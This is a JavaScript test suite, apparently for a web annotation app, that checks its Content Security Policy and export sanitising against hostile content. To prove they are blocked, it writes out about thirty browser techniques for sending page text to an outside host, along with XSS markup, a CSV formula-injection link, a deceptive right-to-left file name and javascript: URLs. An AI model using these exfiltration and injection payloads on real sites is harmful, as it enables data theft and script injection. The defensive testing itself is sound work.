// Nothing leaves the page, whatever runs in it; what users' data says is shown and written, never run.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { inOneFile, launch } from './desk.mjs';

let world, stranger;
before(async () => {
    world = await launch();
    stranger = await listen();
});
after(async () => {
    await world?.close();
    await stranger?.close();
});

// A server of somebody else, who would like to have the text: everything that arrives there, over TCP or UDP.
async function listen()
{
    const arrived = [];
    const server = createServer((request, response) => {
        arrived.push(request.url);
        response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
    });
    server.on('upgrade', (request, socket) => { arrived.push(request.url); socket.destroy(); });
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address();
    const udp = createSocket('udp4').on('message', () => arrived.push('udp'));
    await new Promise((resolve) => udp.bind(port, '127.0.0.1', resolve));
    return { arrived, at: `127.0.0.1:${port}`, close: () => { udp.close(); server.closeAllConnections(); return new Promise((resolve) => server.close(resolve)); } };
}

// Runs in the page: each way to send the text away, by its name.
const ways = (host) => {
    const url = (way) => `http://${host}/${way}?text=secret`;
    const add = (name, attributes, parent = document.body) => parent.append(Object.assign(document.createElement(name), attributes));
    const all = {
        fetch: () => fetch(url('fetch'), { method: 'POST', mode: 'no-cors', body: 'secret' }),
        xhr: () => { const request = new XMLHttpRequest(); request.open('POST', url('xhr')); request.send('secret'); },
        beacon: () => { if (navigator.sendBeacon(url('beacon'), 'secret') === false) throw new Error('refused'); },
        socket: () => new WebSocket(`ws://${host}/socket?text=secret`),
        events: () => new EventSource(url('events')),
        image: () => { new Image().src = url('image'); },
        picture: () => add('img', { srcset: `${url('picture')} 1x` }),
        background: () => { document.body.style.backgroundImage = `url(${url('background')})`; },
        style: () => add('style', { textContent: `@import "${url('style')}"; body { background: url(${url('style')}) }` }, document.head),
        sheet: () => add('link', { rel: 'stylesheet', href: url('sheet') }, document.head),
        prefetch: () => add('link', { rel: 'prefetch', href: url('prefetch') }, document.head),
        preload: () => add('link', { rel: 'preload', as: 'image', href: url('preload') }, document.head),
        module: () => add('link', { rel: 'modulepreload', href: url('module') }, document.head),
        icon: () => add('link', { rel: 'icon', href: url('icon') }, document.head),
        manifest: () => add('link', { rel: 'manifest', href: url('manifest') }, document.head),
        script: () => add('script', { src: url('script') }),
        dynamic: () => import(url('dynamic')),
        frame: () => add('iframe', { src: url('frame') }),
        written: () => add('iframe', { srcdoc: `<img src="${url('written')}">` }),
        object: () => add('object', { data: url('object') }),
        embed: () => add('embed', { src: url('embed') }),
        audio: () => add('audio', { src: url('audio'), preload: 'auto' }),
        video: () => add('video', { poster: url('video'), src: url('video') }),
        font: () => new FontFace('Sent', `url(${url('font')})`).load(),
        worker: () => new Worker(url('worker')),
        blob: () => new Worker(URL.createObjectURL(new Blob([`fetch('${url('blob')}', { mode: 'no-cors' })`]))),
        form: () => { const form = document.createElement('form'); form.action = url('form'); form.method = 'post'; document.body.append(form); form.submit(); },
        ping: () => { const link = document.createElement('a'); link.href = '#'; link.ping = url('ping'); link.click(); },
        base: () => { add('base', { href: `http://${host}/base/` }, document.head); new Image().src = 'base.png?text=secret'; },
        markup: () => { const box = document.createElement('div'); box.innerHTML = `<img src=x onerror="location='${url('markup')}'">`; document.body.append(box); },
        eval: () => { (0, eval)(`location = '${url('eval')}'`); },
    };
    // From a task of the page's own: what the driver calls may do more.
    return new Promise((resolve) => setTimeout(() => resolve(Promise.allSettled(Object.entries(all).map(async ([name, way]) => { await way(); return name; })))));
};

test('a script in the page can send the text by none of thirty ways', async () => {
    const desk = await world.desk();
    await desk.call('open', [{ name: 'a.txt', data: 'secret\n' }]);
    await desk.call('export', 'glossator');  // all of the program is there
    const tried = await desk.page.evaluate(ways, stranger.at);
    assert.ok(tried.length >= 30);
    await desk.page.waitForTimeout(1500);
    assert.deepEqual(stranger.arrived, []);
    assert.equal((await desk.project()).documents.length, 1, 'and the page is where it was');
    desk.requests.length = 0;  // those that the browser refused are told of too
    await desk.close();
});

test('without the policy most of them would work', async () => {
    const listener = await listen();
    const desk = await world.desk({ bypassCSP: true });
    await desk.page.evaluate(ways, listener.at).catch(() => {});  // some leave the page
    await desk.page.waitForTimeout(1500);
    assert.ok(new Set(listener.arrived).size > 10, `${listener.arrived}`);
    desk.requests.length = 0;
    await desk.close();
    await listener.close();
});

test('the policy says so', async () => {
    const desk = await world.desk();
    const policy = await desk.page.evaluate(() => document.querySelector('meta[http-equiv]').content);
    const rules = Object.fromEntries(policy.split('; ').map((rule) => [rule.split(' ')[0], rule.split(' ').slice(1)]));
    assert.deepEqual(rules['default-src'], ["'none'"]);
    assert.deepEqual(rules['connect-src'], [inOneFile ? "'none'" : "'self'"]);
    assert.ok(rules['script-src'].includes("'wasm-unsafe-eval'"));
    assert.ok(!policy.includes("'unsafe-inline'") && !policy.includes("'unsafe-eval'") && !policy.includes('*'));
    await desk.close();
});

// Everything that a project can say, as bad as it can be.
const hostile = (host) => ({
    markup: `<img src="http://${host}/markup" onerror="window.ran=1"><script>window.ran=1</script>`,
    formula: `=HYPERLINK("http://${host}/formula";"x")`,
    name: '../\u202Egpj.exe\r\n<b>.txt',
    guidelines: `# <script>window.ran=1</script>\n\n![x](http://${host}/image.png) [here](javascript:window.ran=1) <http://${host}/auto>\n\n${'> '.repeat(2000)}deep\n`,
});

async function hostileProject(desk)
{
    const { markup, formula, name, guidelines } = hostile(stranger.at);
    await desk.call('open', [{ name, data: `${markup} said so. ${formula} too.\n` }]);
    const [{ id }] = (await desk.project()).documents;
    await desk.call('command', 'project.set', { title: `${markup}\u202E../../x`, guidelines, description: formula });
    await desk.call('command', 'document.set', { id, title: markup, publisher: formula, url: 'javascript:window.ran=1' });
    await desk.call('command', 'entity.create', { name: formula, type: 'PERSON' });
    const [claim] = await desk.call('command', 'claim.create', { text: `${formula}${markup}` });
    const [content] = await desk.call('command', 'span.create', { label: 'CLAIM', at: [[0, 20]] });
    await desk.call('command', 'claim.assign', { span: content, claim });
    const [source] = await desk.call('command', 'span.create', { label: 'PERSON', at: [[30, 40]] });
    await desk.call('command', 'attribution.create', { sources: [source], contents: [content] });
    await desk.settled();
}

test('names, titles, guidelines and texts that are markup are shown, and nothing of them runs or is fetched', async () => {
    const desk = await world.desk();
    await hostileProject(desk);
    for (const name of ['guidelines', 'entities', 'claims', 'coverage', 'attributions', 'timeline', 'statistics', 'schema', 'reading']) {
        await desk.call('command', 'view.show', { name });
        await desk.settled();
    }
    await desk.screenshot('hostile-names');
    assert.equal(await desk.page.evaluate(() => window.ran), undefined);
    assert.equal(await desk.page.title(), 'Glossator');
    assert.deepEqual(stranger.arrived, []);
    await desk.close();
});

test('what is exported holds it as data: SVG without markup of its own, CSV without formulas, names that are files\' names', async () => {
    const desk = await world.desk();
    await hostileProject(desk);
    const written = async (format, id) => {
        const coming = desk.page.waitForEvent('download');
        await desk.call('command', id ?? `report.export:${format}`);
        const download = await coming;
        return { name: download.suggestedFilename(), text: readFileSync(await download.path(), 'utf8') };
    };
    const svg = await written('coverage.svg');
    const elements = await desk.page.evaluate((text) => {
        const tree = new DOMParser().parseFromString(text, 'image/svg+xml');
        const all = [...tree.querySelectorAll('*')];
        return { names: [...new Set(all.map(({ localName }) => localName))].sort(), attributes: [...new Set(all.flatMap((each) => each.getAttributeNames()))] };
    }, svg.text);
    assert.deepEqual(elements.names.filter((name) => !['svg', 'g', 'rect', 'text', 'path', 'title', 'style'].includes(name)), []);
    assert.deepEqual(elements.attributes.filter((name) => /^on|href|src$/.test(name)), []);
    assert.match(svg.text, /&lt;img/);
    for (const kind of ['coverage', 'attributions', 'timeline', 'statistics']) {
        const { text } = await written(`${kind}.csv`);
        assert.doesNotMatch(text, /(^|,|\n)"?[=@\t]/, kind);
    }
    const saved = await written('', 'file.save');
    assert.match(saved.name, /^img-[^/\\<>\u202E]*\.glossator\.json$/);
    assert.equal(JSON.parse(saved.text).entities[0].name, hostile(stranger.at).formula, 'the data itself is as it was');
    const { files } = await desk.call('export', 'text');
    assert.equal(files[0].name, 'gpj.exe-b-.txt');
    await desk.close();
});
